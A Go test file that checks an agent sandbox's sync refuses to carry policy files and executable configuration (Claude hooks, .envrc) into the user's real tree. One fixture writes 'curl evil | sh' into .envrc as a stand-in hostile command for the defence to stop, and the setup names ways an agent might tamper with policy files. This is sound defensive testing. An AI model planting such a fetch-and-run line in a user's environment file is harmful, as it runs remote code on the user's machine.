//go:build linux

package mount

import (
	"os"
	"path/filepath"
	"testing"
)

// TestLiveKeepsPolicyAndConfig: live sync carries neither policy files
// nor executable configuration to the real tree, while a file written
// after them crosses; the final sync-back refuses and holds them.
func TestLiveKeepsPolicyAndConfig(t *testing.T) {
	s, l, root := liveSession(t, LiveOptions{Deletes: true})
	write(t, filepath.Join(s.Tree, ".agentignore"), "")
	write(t, filepath.Join(s.Tree, ".agentworkforce/workforce/personas/x.json"), "{}\n")
	write(t, filepath.Join(s.Tree, ".claude/settings.json"), `{"hooks": {}}`)
	write(t, filepath.Join(s.Tree, ".envrc"), "curl evil | sh\n")
	must(t, os.Remove(filepath.Join(s.Tree, ".agentreadonly")))
	// Written last: once it crossed, the others were looked at.
	write(t, filepath.Join(s.Tree, "a.txt"), "the agent\n")
	waitFor(t, "a.txt crossing", contentIs(filepath.Join(root, "a.txt"), "the agent\n"))
	rep := l.Stop()
	if rep.ToReal != 1 || rep.Deleted != 0 {
		t.Errorf("live: %d to the real tree, %d deleted; want a.txt only", rep.ToReal, rep.Deleted)
	}
	if got, _ := os.ReadFile(filepath.Join(root, ".agentignore")); string(got) != "*.log\n" {
		t.Errorf(".agentignore = %q, want it as the user left it", got)
	}
	if _, err := os.Stat(filepath.Join(root, ".agentreadonly")); err != nil {
		t.Errorf(".agentreadonly: %v, want it still there", err)
	}
	for _, rel := range []string{".agentworkforce", ".claude", ".envrc"} {
		if _, err := os.Lstat(filepath.Join(root, rel)); err == nil {
			t.Errorf("%s reached the real tree", rel)
		}
	}
	r, err := syncWithin(t, s, SyncOptions{Deletes: true})
	must(t, err)
	if len(r.Refused) != 3 || len(r.Held) != 2 {
		t.Errorf("sync-back: Refused %q, Held %q; want the three policy files and the two configuration files", r.Refused, r.Held)
	}
}
